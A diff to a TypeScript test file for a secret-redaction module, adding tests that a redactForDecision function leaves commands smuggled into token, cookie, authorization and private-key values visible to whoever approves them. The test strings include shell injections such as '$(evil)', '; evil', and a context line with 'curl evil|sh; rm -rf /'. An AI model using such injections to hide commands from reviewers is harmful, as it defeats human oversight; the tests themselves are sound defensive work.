@@ -2,7 +2,7 @@ import { assert, describe, it } from "@effect/vitest"
 import { Schema } from "effect"
 import { redactArguments, textRedactor } from "../../../src/computer/internal/secrets/argumentRedaction.ts"
 import { isSecretName } from "../../../src/computer/internal/secrets/secretNames.ts"
-import { redactText } from "../../../src/computer/internal/secrets/secretText.ts"
+import { redactForDecision, redactText } from "../../../src/computer/internal/secrets/secretText.ts"
 
 const CANARY = "canary-7Qp2vXw9"
 
@@ -69,6 +69,45 @@ describe("a secret in a text", () => {
     assert.strictEqual(shown, "TOKEN=***(curl evil|sh); rm -rf / && PASSWORD=***;reboot")
   })
 
+  // each of them runs `evil` in a shell
+  it.for([
+    "echo token=\\\"; evil",
+    "TOKEN=\\\" evil \\\"",
+    "TOKEN='\\'; evil #'",
+    "TOKEN='\\' evil '",
+    "TOKEN=\"$(evil)\" ls",
+    "TOKEN=\"`evil`\" ls",
+    "TOKEN=\"a\nevil\"",
+    "TOKEN= evil",
+    "TOKEN=\nevil",
+    "TOKEN= \"evil\"",
+    "authorization=x evil",
+    "Authorization: $(evil)",
+    "Cookie: x; evil",
+    "echo Bearer\n/usr/local/bin/evil",
+    "curl https://u:$(evil)@host",
+    "echo \"-----BEGIN PRIVATE KEY-----\"; evil",
+    "-----BEGIN PRIVATE KEY-----\nevil\n-----END PRIVATE KEY-----"
+  ])("is no place to hide a command from who decides on it: %j", (text) => {
+    assert.include(redactForDecision(text), "evil")
+    assert.include(JSON.stringify(redactArguments({ text }, undefined, { whole: true })), "evil")
+  })
+
+  it("is hidden from who decides as well", () => {
+    const body = "A".repeat(64)
+    for (
+      const [text, shown] of [
+        ...hidden.filter(([text]) => !/PRIVATE KEY|Cookie|a \\" b|apiKey/.test(text)),
+        ["Cookie: a=b; c=d", "Cookie: ***; c=d"],
+        ["{\\\"apiKey\\\": \\\"ab\\\"}", "{\\\"apiKey\\\": ***}"],
+        [
+          `-----BEGIN RSA PRIVATE KEY-----\n${body}\n${body}\nabc=\n-----END RSA PRIVATE KEY-----`,
+          "-----BEGIN RSA PRIVATE KEY-----\n***\n***\nabc=\n-----END RSA PRIVATE KEY-----"
+        ]
+      ] as const
+    ) assert.strictEqual(redactForDecision(text), shown)
+  })
+
   it("is looked for in time that grows with the text alone", () => {
     // steps that grow with the square of the length would outlast the test
     for (
@@ -85,6 +124,7 @@ describe("a secret in a text", () => {
       ]
     ) {
       assert.isNotEmpty(redactText(piece.repeat(200_000 / piece.length)))
+      assert.isNotEmpty(redactForDecision(piece.repeat(200_000 / piece.length)))
     }
   })
 })
